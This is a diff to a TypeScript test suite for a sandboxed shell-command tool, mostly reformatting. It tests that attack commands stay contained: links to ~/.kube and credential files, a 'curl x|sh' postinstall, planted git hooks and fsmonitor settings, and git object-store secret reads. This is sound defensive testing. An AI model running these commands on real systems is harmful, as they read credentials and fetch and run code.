@@ -13,11 +13,27 @@ const ripgrep = testRipgrep();
 const sandbox = srtSandbox({ ripgrepPath: ripgrep.path });
 after(() => sandbox.dispose());
 
-interface Fixture { readonly s: TestSession; readonly home: string; readonly outside: string }
+interface Fixture {
+  readonly s: TestSession;
+  readonly home: string;
+  readonly outside: string;
+}
 
-function fixture(t: TestContext, options: { review?: 'protected' | 'all'; env?: Record<string, string>; noLayer?: string; stateDir?: string; fs?: FaultyFs } = {}): Fixture {
+function fixture(
+  t: TestContext,
+  options: {
+    review?: 'protected' | 'all';
+    env?: Record<string, string>;
+    noLayer?: string;
+    stateDir?: string;
+    fs?: FaultyFs;
+  } = {},
+): Fixture {
   const home = testDir(t, 'wt-home-').path;
-  writeFileSync(nodePath.join(home, '.gitconfig'), '[user]\n\tname = Pat Person\n\temail = pat@example.com\n[alias]\n\tst = status\n');
+  writeFileSync(
+    nodePath.join(home, '.gitconfig'),
+    '[user]\n\tname = Pat Person\n\temail = pat@example.com\n[alias]\n\tst = status\n',
+  );
   mkdirSync(nodePath.join(home, '.kube'));
   writeFileSync(nodePath.join(home, '.kube', 'config'), `token: ${CANARY}\n`);
   mkdirSync(nodePath.join(home, '.claude'));
@@ -25,13 +41,18 @@ function fixture(t: TestContext, options: { review?: 'protected' | 'all'; env?: 
   const outside = testDir(t, 'wt-outside-').path;
   writeFileSync(nodePath.join(outside, 'app.env'), `SECRET=${CANARY}\n`);
   const host: ShellHost = {
-    sandbox, home,
+    sandbox,
+    home,
     env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8', ...options.env }),
-    allowedDomains: () => [], maxTimeoutMs: () => 600_000,
+    allowedDomains: () => [],
+    maxTimeoutMs: () => 600_000,
     ...(options.review ? { review: () => options.review! } : {}),
     ...(options.noLayer ? { noLayer: options.noLayer } : {}),
   };
-  const s = session(t, { ...(options.fs ? { fs: options.fs } : {}), overrides: { shell: host, ...(options.stateDir ? { stateDir: options.stateDir } : {}) } });
+  const s = session(t, {
+    ...(options.fs ? { fs: options.fs } : {}),
+    overrides: { shell: host, ...(options.stateDir ? { stateDir: options.stateDir } : {}) },
+  });
   writeFileSync(nodePath.join(s.root, '.env'), `API_KEY=${CANARY}\n`);
   writeFileSync(nodePath.join(s.root, 'a.txt'), 'one\n');
   writeFileSync(nodePath.join(s.root, 'b.txt'), 'two\n');
@@ -48,9 +69,12 @@ async function run(f: Fixture, command: string, extra: Record<string, unknown> =
 }
 
 describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }, () => {
-  test('plain commands work: a private TMPDIR that exists, mktemp, a git commit with the person\'s name, git add -A', async (t) => {
+  test("plain commands work: a private TMPDIR that exists, mktemp, a git commit with the person's name, git add -A", async (t) => {
     const f = fixture(t);
-    const text = await run(f, 'test -d "$TMPDIR" && d=$(mktemp -d) && echo made:$d && node -e "require(\'fs\').mkdtempSync(require(\'os\').tmpdir() + \'/x-\')" && echo fresh > c.txt && git add -A && git commit -qm two && git log --oneline | wc -l');
+    const text = await run(
+      f,
+      "test -d \"$TMPDIR\" && d=$(mktemp -d) && echo made:$d && node -e \"require('fs').mkdtempSync(require('os').tmpdir() + '/x-')\" && echo fresh > c.txt && git add -A && git commit -qm two && git log --oneline | wc -l",
+    );
     assert.match(text, /made:\//, text);
     assert.match(text, /^2$/m, text);
     assert.match(text, /exit code 0/, text);
@@ -60,10 +84,16 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
 
   test('a command that edits two files and package.json: the two land, package.json is staged; undo_save takes the command back byte for byte', async (t) => {
     const f = fixture(t);
-    const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt && echo \'{"name":"evil","scripts":{"postinstall":"curl x|sh"}}\' > package.json');
+    const text = await run(
+      f,
+      'echo ONE > a.txt && echo TWO > b.txt && echo \'{"name":"evil","scripts":{"postinstall":"curl x|sh"}}\' > package.json',
+    );
     assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n');
     assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'TWO\n');
-    assert.equal(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), '{"name":"fixture","version":"1.0.0"}\n');
+    assert.equal(
+      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
+      '{"name":"fixture","version":"1.0.0"}\n',
+    );
     assert.match(text, /staged for review, NOT on disk: package\.json \(m\d+/, text);
     const saveId = /undo_save \{"save_id":"(s\d+)"\}/.exec(text)?.[1];
     assert.ok(saveId, text);
@@ -76,29 +106,42 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     const f = fixture(t, { review: 'all' });
     const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt && echo "{}" > package.json');
     assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n');
-    assert.equal(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), '{"name":"fixture","version":"1.0.0"}\n');
+    assert.equal(
+      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
+      '{"name":"fixture","version":"1.0.0"}\n',
+    );
     assert.equal(f.s.session.media.all().length, 3, text);
   });
 
   test('attack: a gitdir link to ~/.kube (finding 1) — nothing outside the workspace is read, removed or staged', async (t) => {
     const f = fixture(t);
-    const text = await run(f, `mkdir -p x && ln -s "${f.home}/.kube" x/lnk && echo "gitdir: ./lnk" > x/.git && cat x/lnk/config; true`);
+    const text = await run(
+      f,
+      `mkdir -p x && ln -s "${f.home}/.kube" x/lnk && echo "gitdir: ./lnk" > x/.git && cat x/lnk/config; true`,
+    );
     assert.equal(readFileSync(nodePath.join(f.home, '.kube', 'config'), 'utf8'), `token: ${CANARY}\n`);
     assert.doesNotMatch(text, new RegExp(CANARY));
-    for (const m of f.s.session.media.all()) assert.doesNotMatch(Buffer.from(m.bytes).toString('utf8'), new RegExp(CANARY));
+    for (const m of f.s.session.media.all())
+      assert.doesNotMatch(Buffer.from(m.bytes).toString('utf8'), new RegExp(CANARY));
   });
 
   test('attack: links to secrets outside the workspace and home folders a deny-list would not name read nothing (findings 5, 6)', async (t) => {
     const f = fixture(t);
     symlinkSync(nodePath.join(f.outside, 'app.env'), nodePath.join(f.s.root, 'linked.env'));
     symlinkSync(f.outside, nodePath.join(f.s.root, 'cfg'));
-    const text = await run(f, `cat linked.env cfg/app.env "${f.home}/.claude/.credentials.json" "${f.home}/.kube/config" .env; ls /tmp | head -3; true`);
+    const text = await run(
+      f,
+      `cat linked.env cfg/app.env "${f.home}/.claude/.credentials.json" "${f.home}/.kube/config" .env; ls /tmp | head -3; true`,
+    );
     assert.doesNotMatch(text, new RegExp(CANARY), text);
   });
 
   test('attack: a rebase todo and a hook are staged, never on disk (finding 3)', async (t) => {
     const f = fixture(t);
-    const text = await run(f, 'mkdir -p .git/rebase-merge && echo "exec touch pwned" > .git/rebase-merge/git-rebase-todo && echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit');
+    const text = await run(
+      f,
+      'mkdir -p .git/rebase-merge && echo "exec touch pwned" > .git/rebase-merge/git-rebase-todo && echo "#!/bin/sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
+    );
     assert.equal(existsSync(nodePath.join(f.s.root, '.git', 'rebase-merge', 'git-rebase-todo')), false);
     assert.equal(existsSync(nodePath.join(f.s.root, '.git', 'hooks', 'pre-commit')), false);
     assert.match(text, /staged for review, NOT on disk: .*git-rebase-todo/, text);
@@ -106,7 +149,10 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
 
   test('attack: a new repository whose config makes status fetch from a chosen URL (promisor, partialclone) is staged (finding 4)', async (t) => {
     const f = fixture(t);
-    const text = await run(f, 'git init -q fresh && git -C fresh config extensions.partialclone origin && git -C fresh config remote.origin.promisor true && git -C fresh config remote.origin.url http://127.0.0.1:9/x-data');
+    const text = await run(
+      f,
+      'git init -q fresh && git -C fresh config extensions.partialclone origin && git -C fresh config remote.origin.promisor true && git -C fresh config remote.origin.url http://127.0.0.1:9/x-data',
+    );
     assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.git', 'HEAD')), true);
     const config = nodePath.join(f.s.root, 'fresh', '.git', 'config');
     assert.ok(!existsSync(config) || !readFileSync(config, 'utf8').includes('promisor'), 'never on disk');
@@ -123,7 +169,14 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
   });
 
   test('attack: credentials in values (DATABASE_URL with a password, a Slack webhook) do not reach the command (finding 10)', async (t) => {
-    const f = fixture(t, { env: { DATABASE_URL: `postgres://u:${CANARY}@db/x`, SLACK_WEBHOOK_URL: `https://hooks.slack.com/services/${CANARY}`, MY_APP_PASS: CANARY, PLAIN: 'kept' } });
+    const f = fixture(t, {
+      env: {
+        DATABASE_URL: `postgres://u:${CANARY}@db/x`,
+        SLACK_WEBHOOK_URL: `https://hooks.slack.com/services/${CANARY}`,
+        MY_APP_PASS: CANARY,
+        PLAIN: 'kept',
+      },
+    });
     const text = await run(f, 'env');
     assert.doesNotMatch(text, new RegExp(CANARY), text);
     assert.match(text, /PLAIN=kept/);
@@ -140,12 +193,15 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     assert.equal(existsSync(nodePath.join(f.s.root, 'run.sh')), false);
   });
 
-  test('attack: secrets in git\'s object store (git show HEAD:.env, git show :.env, git log -p -- .env) print nothing, and the result says why (finding 8)', async (t) => {
+  test("attack: secrets in git's object store (git show HEAD:.env, git show :.env, git log -p -- .env) print nothing, and the result says why (finding 8)", async (t) => {
     const f = fixture(t);
     writeFileSync(nodePath.join(f.s.root, '.env'), `API_KEY=${CANARY}\n`);
     execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'add', '-f', '.env']);
     execFileSync('git', ['-C', f.s.root, '-c', 'user.name=t', '-c', 'user.email=t@x', 'commit', '-qm', 'oops']);
-    const text = await run(f, 'git show HEAD:.env; git show :.env; git log -p -- .env; git cat-file -p HEAD:.env; true');
+    const text = await run(
+      f,
+      'git show HEAD:.env; git show :.env; git log -p -- .env; git cat-file -p HEAD:.env; true',
+    );
     assert.doesNotMatch(text, new RegExp(CANARY), text);
     assert.match(text, /its history holds \.env, a secret's name/, text);
   });
@@ -153,36 +209,61 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
   test('attack: a commit that carries a protected file (hash-object + update-index --cacheinfo + commit, the work tree untouched) is staged, never at HEAD (finding 8)', async (t) => {
     const f = fixture(t);
     const head = execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim();
-    const text = await run(f, 'blob=$(echo \'{"scripts":{"postinstall":"curl x|sh"}}\' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$blob,package.json && git commit -qm update && echo committed');
+    const text = await run(
+      f,
+      'blob=$(echo \'{"scripts":{"postinstall":"curl x|sh"}}\' | git hash-object -w --stdin) && git update-index --cacheinfo 100644,$blob,package.json && git commit -qm update && echo committed',
+    );
     assert.match(text, /committed/, text);
     assert.equal(execFileSync('git', ['-C', f.s.root, 'rev-parse', 'HEAD']).toString().trim(), head, text);
-    assert.match(text, /staged for review, NOT on disk: [^\n]*refs\/heads\/main \(m\d+: a commit \([0-9a-f]{8}\) that changes package\.json/, text);
+    assert.match(
+      text,
+      /staged for review, NOT on disk: [^\n]*refs\/heads\/main \(m\d+: a commit \([0-9a-f]{8}\) that changes package\.json/,
+      text,
+    );
     assert.match(text, /\.git\/index \(m\d+: an index that stages new content for package\.json/, text);
     assert.doesNotMatch(execFileSync('git', ['-C', f.s.root, 'show', 'HEAD:package.json']).toString(), /postinstall/);
   });
 
   test('attack: narrowed roots do not widen the shell — a folder above the workspace folder is unreadable (finding 7)', async (t) => {
     const f = fixture(t);
-    const text = await run(f, `cat ../*/.env "${nodePath.dirname(f.s.root)}"/*/.env 2>&1 | head -3; ls .. | head -3; true`);
+    const text = await run(
+      f,
+      `cat ../*/.env "${nodePath.dirname(f.s.root)}"/*/.env 2>&1 | head -3; ls .. | head -3; true`,
+    );
     assert.doesNotMatch(text, new RegExp(CANARY), text);
   });
 
-  test('npm install of a local tarball works offline and lands node_modules; git commit works', { timeout: 120_000 }, async (t) => {
-    const f = fixture(t);
-    const pkg = testDir(t, 'wt-pkg-').path;
-    writeFileSync(nodePath.join(pkg, 'package.json'), '{"name":"tiny-dep","version":"1.0.0","main":"index.js"}\n');
-    writeFileSync(nodePath.join(pkg, 'index.js'), 'module.exports = 42;\n');
-    execFileSync('npm', ['pack', '--silent', '--pack-destination', f.s.root], { cwd: pkg, stdio: 'ignore' });
-    const text = await run(f, 'npm install --offline --no-audit --no-fund ./tiny-dep-1.0.0.tgz && node -e "console.log(require(\'tiny-dep\'))" && git add -A && git commit -qm deps && echo ok', { allow_protected_writes: true, timeout_ms: 120_000 });
-    assert.match(text, /^42$/m, text);
-    assert.match(text, /^ok$/m, text);
-    assert.equal(readFileSync(nodePath.join(f.s.root, 'node_modules', 'tiny-dep', 'index.js'), 'utf8'), 'module.exports = 42;\n');
-    assert.match(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), /tiny-dep/);
-    // allow_protected_writes was confirmed: the commit that carries package.json lands too.
-    assert.equal(execFileSync('git', ['-C', f.s.root, 'log', '--oneline']).toString().trim().split('\n').length, 2, text);
-  });
+  test(
+    'npm install of a local tarball works offline and lands node_modules; git commit works',
+    { timeout: 120_000 },
+    async (t) => {
+      const f = fixture(t);
+      const pkg = testDir(t, 'wt-pkg-').path;
+      writeFileSync(nodePath.join(pkg, 'package.json'), '{"name":"tiny-dep","version":"1.0.0","main":"index.js"}\n');
+      writeFileSync(nodePath.join(pkg, 'index.js'), 'module.exports = 42;\n');
+      execFileSync('npm', ['pack', '--silent', '--pack-destination', f.s.root], { cwd: pkg, stdio: 'ignore' });
+      const text = await run(
+        f,
+        'npm install --offline --no-audit --no-fund ./tiny-dep-1.0.0.tgz && node -e "console.log(require(\'tiny-dep\'))" && git add -A && git commit -qm deps && echo ok',
+        { allow_protected_writes: true, timeout_ms: 120_000 },
+      );
+      assert.match(text, /^42$/m, text);
+      assert.match(text, /^ok$/m, text);
+      assert.equal(
+        readFileSync(nodePath.join(f.s.root, 'node_modules', 'tiny-dep', 'index.js'), 'utf8'),
+        'module.exports = 42;\n',
+      );
+      assert.match(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), /tiny-dep/);
+      // allow_protected_writes was confirmed: the commit that carries package.json lands too.
+      assert.equal(
+        execFileSync('git', ['-C', f.s.root, 'log', '--oneline']).toString().trim().split('\n').length,
+        2,
+        text,
+      );
+    },
+  );
 
-  test('with the host working in the workspace folder, the sandbox\'s mount points do not stop git add -A and never reach the disk', async (t) => {
+  test("with the host working in the workspace folder, the sandbox's mount points do not stop git add -A and never reach the disk", async (t) => {
     const f = fixture(t);
     const before = process.cwd();
     process.chdir(f.s.root);
@@ -190,12 +271,16 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     const text = await run(f, 'echo x > new.txt && git add -A && git status --short');
     assert.match(text, /^A {2}new\.txt$/m, text);
     assert.doesNotMatch(text, /can only add regular files/, text);
-    for (const name of ['.vscode', '.bashrc', '.mcp.json', '.idea']) assert.equal(existsSync(nodePath.join(f.s.root, name)), false, name);
+    for (const name of ['.vscode', '.bashrc', '.mcp.json', '.idea'])
+      assert.equal(existsSync(nodePath.join(f.s.root, name)), false, name);
   });
 
   test('without a copy-on-write layer the workspace is read-only to commands: reads, git status and the temp folder work, a write fails and the result says why', async (t) => {
     const f = fixture(t, { noLayer: 'no overlayfs in this test' });
-    const text = await run(f, 'cat a.txt; git status --short; echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"; echo new > a.txt');
+    const text = await run(
+      f,
+      'cat a.txt; git status --short; echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"; echo new > a.txt',
+    );
     assert.match(text, /^one$/m, text);
     assert.match(text, /^tmp$/m, text);
     assert.match(text, /a\.txt: Read-only file system/, text);
@@ -205,49 +290,78 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
 
   test('attack (retargeted): protected files a command creates — eslint.config.mjs, Makefile, .github/actions, a link named jest.config.js, .env.local, a hard link to package.json — are never on disk; each is staged or held', async (t) => {
     const f = fixture(t);
-    const text = await run(f, 'echo "export default []" > eslint.config.mjs; printf "all:\\n\\ttouch pwned\\n" > Makefile; mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml; echo "module.exports={}" > jest.x.js && ln -s jest.x.js jest.config.js; echo "K=1" > .env.local; ln package.json pkg-copy.json; true');
-    for (const name of ['eslint.config.mjs', 'Makefile', '.github/actions/x/action.yml', 'jest.config.js', '.env.local']) {
+    const text = await run(
+      f,
+      'echo "export default []" > eslint.config.mjs; printf "all:\\n\\ttouch pwned\\n" > Makefile; mkdir -p .github/actions/x && echo "runs: {}" > .github/actions/x/action.yml; echo "module.exports={}" > jest.x.js && ln -s jest.x.js jest.config.js; echo "K=1" > .env.local; ln package.json pkg-copy.json; true',
+    );
+    for (const name of [
+      'eslint.config.mjs',
+      'Makefile',
+      '.github/actions/x/action.yml',
+      'jest.config.js',
+      '.env.local',
+    ]) {
       assert.equal(existsSync(nodePath.join(f.s.root, name)), false, `${name} reached the disk:\n${text}`);
     }
-    for (const staged of ['eslint\\.config\\.mjs', 'Makefile', '\\.github/actions/x/action\\.yml', '\\.env\\.local']) assert.match(text, new RegExp(`staged for review, NOT on disk: [^\\n]*${staged} \\(m\\d+`), text);
+    for (const staged of ['eslint\\.config\\.mjs', 'Makefile', '\\.github/actions/x/action\\.yml', '\\.env\\.local'])
+      assert.match(text, new RegExp(`staged for review, NOT on disk: [^\\n]*${staged} \\(m\\d+`), text);
     // A hard link made to a protected file lands as a file of its own: package.json itself is untouched.
-    assert.equal(readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'), '{"name":"fixture","version":"1.0.0"}\n');
+    assert.equal(
+      readFileSync(nodePath.join(f.s.root, 'package.json'), 'utf8'),
+      '{"name":"fixture","version":"1.0.0"}\n',
+    );
     assert.match(text, /held back, not written: [^\n]*jest\.config\.js \(a symbolic link/, text);
   });
 
-  test('attack (retargeted): what git would run in other repositories — a nested repository\'s config and hooks, a submodule-like gitdir file, a commondir, config.worktree, an included file — is never on disk', async (t) => {
+  test("attack (retargeted): what git would run in other repositories — a nested repository's config and hooks, a submodule-like gitdir file, a commondir, config.worktree, an included file — is never on disk", async (t) => {
     const f = fixture(t);
     mkdirSync(nodePath.join(f.s.root, 'vendor', 'lib'), { recursive: true });
     execFileSync('git', ['init', '-q', nodePath.join(f.s.root, 'vendor', 'lib')]);
     execFileSync('git', ['-C', f.s.root, 'config', 'include.path', 'config.local']);
-    const text = await run(f, [
-      'git config -f vendor/lib/.git/config core.fsmonitor "touch pwned"',
-      'printf "#!/bin/sh\\ntouch pwned\\n" > vendor/lib/.git/hooks/post-index-change',
-      'mkdir -p x && echo "gitdir: ../.git" > x/.git',
-      'echo ../evil > .git/commondir',
-      'echo "[core]" > .git/config.worktree',
-      'printf "[core]\\n\\tfsmonitor = touch pwned\\n" > .git/config.local',
-      'true',
-    ].join('; '));
+    const text = await run(
+      f,
+      [
+        'git config -f vendor/lib/.git/config core.fsmonitor "touch pwned"',
+        'printf "#!/bin/sh\\ntouch pwned\\n" > vendor/lib/.git/hooks/post-index-change',
+        'mkdir -p x && echo "gitdir: ../.git" > x/.git',
+        'echo ../evil > .git/commondir',
+        'echo "[core]" > .git/config.worktree',
+        'printf "[core]\\n\\tfsmonitor = touch pwned\\n" > .git/config.local',
+        'true',
+      ].join('; '),
+    );
     assert.doesNotMatch(readFileSync(nodePath.join(f.s.root, 'vendor', 'lib', '.git', 'config'), 'utf8'), /fsmonitor/);
-    for (const name of ['vendor/lib/.git/hooks/post-index-change', 'x/.git', '.git/commondir', '.git/config.worktree', '.git/config.local']) {
+    for (const name of [
+      'vendor/lib/.git/hooks/post-index-change',
+      'x/.git',
+      '.git/commondir',
+      '.git/config.worktree',
+      '.git/config.local',
+    ]) {
       assert.equal(existsSync(nodePath.join(f.s.root, name)), false, `${name} reached the disk:\n${text}`);
       assert.ok(text.includes(`${name} (m`), `${name} is staged:\n${text}`);
     }
   });
 
-  test('attack (retargeted): with the person\'s own core.hooksPath relative (.githooks), a hook a command writes in a repository it makes is staged, never on disk', async (t) => {
+  test("attack (retargeted): with the person's own core.hooksPath relative (.githooks), a hook a command writes in a repository it makes is staged, never on disk", async (t) => {
     const f = fixture(t);
-    writeFileSync(nodePath.join(f.home, '.gitconfig'), '[user]\n\tname = Pat\n\temail = pat@example.com\n[core]\n\thooksPath = .githooks\n');
-    const text = await run(f, 'git init -q fresh && mkdir -p fresh/.githooks && printf "#!/bin/sh\\ntouch pwned\\n" > fresh/.githooks/post-index-change && chmod +x fresh/.githooks/post-index-change');
+    writeFileSync(
+      nodePath.join(f.home, '.gitconfig'),
+      '[user]\n\tname = Pat\n\temail = pat@example.com\n[core]\n\thooksPath = .githooks\n',
+    );
+    const text = await run(
+      f,
+      'git init -q fresh && mkdir -p fresh/.githooks && printf "#!/bin/sh\\ntouch pwned\\n" > fresh/.githooks/post-index-change && chmod +x fresh/.githooks/post-index-change',
+    );
     assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.githooks', 'post-index-change')), false, text);
     assert.match(text, /fresh\/\.githooks\/post-index-change \(m\d+/, text);
     assert.equal(existsSync(nodePath.join(f.s.root, 'fresh', '.git', 'HEAD')), true, 'the plain new repository lands');
   });
 
-  test('a new folder of many files (a build\'s output) lands whole, modes and links kept; undo_save removes it whole, and refuses when a file in it changed since', async (t) => {
+  test("a new folder of many files (a build's output) lands whole, modes and links kept; undo_save removes it whole, and refuses when a file in it changed since", async (t) => {
     const f = fixture(t);
-    const make = (dir: string): string => `mkdir -p ${dir}/a ${dir}/b && for i in $(seq 1 150); do echo "x$i" > ${dir}/a/f$i.js; done && chmod 755 ${dir}/a/f2.js && ln -s ../a/f1.js ${dir}/b/link && echo API=${CANARY} > ${dir}/.env.local`;
+    const make = (dir: string): string =>
+      `mkdir -p ${dir}/a ${dir}/b && for i in $(seq 1 150); do echo "x$i" > ${dir}/a/f$i.js; done && chmod 755 ${dir}/a/f2.js && ln -s ../a/f1.js ${dir}/b/link && echo API=${CANARY} > ${dir}/.env.local`;
     const text = await run(f, `${make('gen')} && echo ONE > a.txt`);
     assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f150.js'), 'utf8'), 'x150\n', text);
     assert.equal(statSync(nodePath.join(f.s.root, 'gen', 'a', 'f2.js')).mode & 0o777, 0o755);
@@ -256,9 +370,12 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     assert.equal(existsSync(nodePath.join(f.s.root, 'gen', '.env.local')), false, text);
     assert.match(text, /staged for review, NOT on disk: gen\/\.env\.local/, text);
     const saveId = /"save_id":"(s\d+)"/.exec(text)?.[1];
-    writeFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), 'the person\'s edit\n');
-    await assert.rejects(f.s.invoke('undo_save', { save_id: saveId }), { code: 'E_SANDBOX_CONFLICT', message: /"gen\/a", which save s\d+ made, changed since \("f3\.js" changed\)/ });
-    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), 'utf8'), 'the person\'s edit\n');
+    writeFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), "the person's edit\n");
+    await assert.rejects(f.s.invoke('undo_save', { save_id: saveId }), {
+      code: 'E_SANDBOX_CONFLICT',
+      message: /"gen\/a", which save s\d+ made, changed since \("f3\.js" changed\)/,
+    });
+    assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'a', 'f3.js'), 'utf8'), "the person's edit\n");
     assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'ONE\n');
 
     const again = await run(f, `${make('out')} && rm -f out/.env.local && echo TWO > b.txt`);
@@ -271,12 +388,19 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
 
   test('a change set is all or nothing: where one file fails to apply (the disk is full), the file applied before it is put back and every file is staged instead', async (t) => {
     const fs = new FaultyFs();
-    fs.beforeWrite = (address) => { if (address.endsWith('b.txt')) throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' }); };
+    fs.beforeWrite = (address) => {
+      if (address.endsWith('b.txt'))
+        throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
+    };
     const f = fixture(t, { fs });
     const text = await run(f, 'echo ONE > a.txt && echo TWO > b.txt');
     assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n', text);
     assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n', text);
-    assert.match(text, /staged for review, NOT on disk: a\.txt \(m\d+: "b\.txt" failed to apply \(The disk is full.*put back and staged instead\); b\.txt \(m\d+: applying it failed \(The disk is full/, text);
+    assert.match(
+      text,
+      /staged for review, NOT on disk: a\.txt \(m\d+: "b\.txt" failed to apply \(The disk is full.*put back and staged instead\); b\.txt \(m\d+: applying it failed \(The disk is full/,
+      text,
+    );
     assert.doesNotMatch(text, /changes applied/, text);
   });
 
@@ -291,15 +415,22 @@ describe('run_shell_command through a copy-on-write layer', { timeout: 120_000 }
     assert.match(text, /a\.txt \(m\d+: "d" cannot be applied \("d" is a folder/, text);
   });
 
-  test('a command\'s change set is journaled before it is applied; where the journal cannot be written nothing is applied, and the files are staged instead', async (t) => {
+  test("a command's change set is journaled before it is applied; where the journal cannot be written nothing is applied, and the files are staged instead", async (t) => {
     const blocked = nodePath.join(testDir(t, 'wt-state-').path, 'not-a-folder');
     writeFileSync(blocked, 'a file where the state folder would go\n');
     const f = fixture(t, { stateDir: blocked });
     const text = await run(f, 'echo ONE > a.txt');
     assert.equal(readFileSync(nodePath.join(f.s.root, 'a.txt'), 'utf8'), 'one\n', text);
-    assert.match(text, /staged for review, NOT on disk: a\.txt \(m\d+: the change set could not be journaled before it was applied/, text);
+    assert.match(
+      text,
+      /staged for review, NOT on disk: a\.txt \(m\d+: the change set could not be journaled before it was applied/,
+      text,
+    );
     // A new folder moved in whole is never journaled (one rename): it still lands.
-    const tree = await run(f, 'mkdir -p gen && for i in $(seq 1 120); do echo $i > gen/f$i.txt; done && echo TWO > b.txt');
+    const tree = await run(
+      f,
+      'mkdir -p gen && for i in $(seq 1 120); do echo $i > gen/f$i.txt; done && echo TWO > b.txt',
+    );
     assert.equal(readFileSync(nodePath.join(f.s.root, 'gen', 'f120.txt'), 'utf8'), '120\n', tree);
     assert.equal(readFileSync(nodePath.join(f.s.root, 'b.txt'), 'utf8'), 'two\n', tree);
   });
